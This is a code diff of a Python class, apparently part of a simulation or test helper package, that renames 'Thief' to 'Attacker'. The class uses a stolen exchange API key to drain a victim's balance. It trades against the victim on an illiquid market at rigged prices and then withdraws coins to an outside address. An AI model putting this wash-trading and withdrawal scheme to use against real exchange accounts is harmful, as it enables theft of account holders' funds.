@@ -11,22 +11,22 @@ import base58
 from nupool_helpers.clients import Exchange
 from nupool_helpers.errors import ApiError, PermissionDenied, WorkbookError
 
-__all__ = ["Thief"]
+__all__ = ["Attacker"]
 
 _STEP = Decimal("0.00000001")
 _LEAST_VALUE = Decimal("0.0005")  # of an order, in BTC
 _WITH_FEE = Decimal("1.0025")
 
 
-class Thief:
+class Attacker:
     """Works with a stolen key, and with an account of their own. `calls` tells each call and what was answered.
 
-    `thin` is the market that the thief quotes, `price` the coin's price there, and `dear` how many times too dear the
+    `thin` is the market that the thief quotes, `price` the coin's price there, and `markup` how many times too dear the
     thief sells, and too cheap buys.
     """
 
-    def __init__(self, stolen: Exchange, own: Exchange, thin: str, price: Decimal, dear: int) -> None:
-        self.stolen, self.own, self.thin, self.price, self.dear = stolen, own, thin, price, dear
+    def __init__(self, stolen: Exchange, own: Exchange, thin: str, price: Decimal, markup: int) -> None:
+        self.stolen, self.own, self.thin, self.price, self.markup = stolen, own, thin, price, markup
         self.calls: list[tuple[str, str]] = []
 
     def look(self) -> None:
@@ -49,7 +49,7 @@ class Thief:
     def trade(self) -> None:
         """Be the other side of the account's trades, on a market where nobody else stands."""
         coin, free = self.thin.partition("-")[2], self._free()
-        cheap, dear = _cut(self.price / self.dear), _cut(self.price * self.dear)
+        cheap, dear = _cut(self.price / self.markup), _cut(self.price * self.markup)
         if free.get(coin, Decimal(0)) * cheap >= _LEAST_VALUE:
             with self._offer(self.own.buy_limit, free[coin], cheap):
                 self._order("sell", self.thin, free[coin], cheap)
@@ -65,8 +65,8 @@ class Thief:
                 self._call("account/withdraw", currency=coin, quantity=f"{free:f}", address=self._loot(coin))
 
     def _free(self) -> dict[str, Decimal]:
-        found = {b["Currency"]: Decimal(f"{b['Available']:.8f}") for b in self._call("account/getbalances")}
-        return {coin: free for coin, free in found.items() if free > 0}
+        free_by_coin = {b["Currency"]: Decimal(f"{b['Available']:.8f}") for b in self._call("account/getbalances")}
+        return {coin: free for coin, free in free_by_coin.items() if free > 0}
 
     def _sell(self, market: str, quantity: Decimal) -> None:
         try:
@@ -92,18 +92,18 @@ class Thief:
 
     def _loot(self, coin: str) -> str:
         """An address outside of the exchange, of the kind that the coin has."""
-        mine = self.own.call("account/getdepositaddress", currency=coin)["Address"]
-        outside = base58.b58decode_check(mine)[:1] + hashlib.sha256(coin.encode()).digest()[:20]
+        own_address = self.own.call("account/getdepositaddress", currency=coin)["Address"]
+        outside = base58.b58decode_check(own_address)[:1] + hashlib.sha256(coin.encode()).digest()[:20]
         return base58.b58encode_check(outside).decode()
 
     def _call(self, path: str, **params: str) -> Any:
-        said = " ".join(f"{name}={value}" for name, value in params.items() if name not in ("uuid", "address"))
+        words = " ".join(f"{name}={value}" for name, value in params.items() if name not in ("uuid", "address"))
         try:
             result = self.stolen.call(path, **params)
         except WorkbookError as error:
-            self.calls.append((f"{path} {said}".strip(), str(error)))
+            self.calls.append((f"{path} {words}".strip(), str(error)))
             raise
-        self.calls.append((f"{path} {said}".strip(), "done"))
+        self.calls.append((f"{path} {words}".strip(), "done"))
         return result
 
 
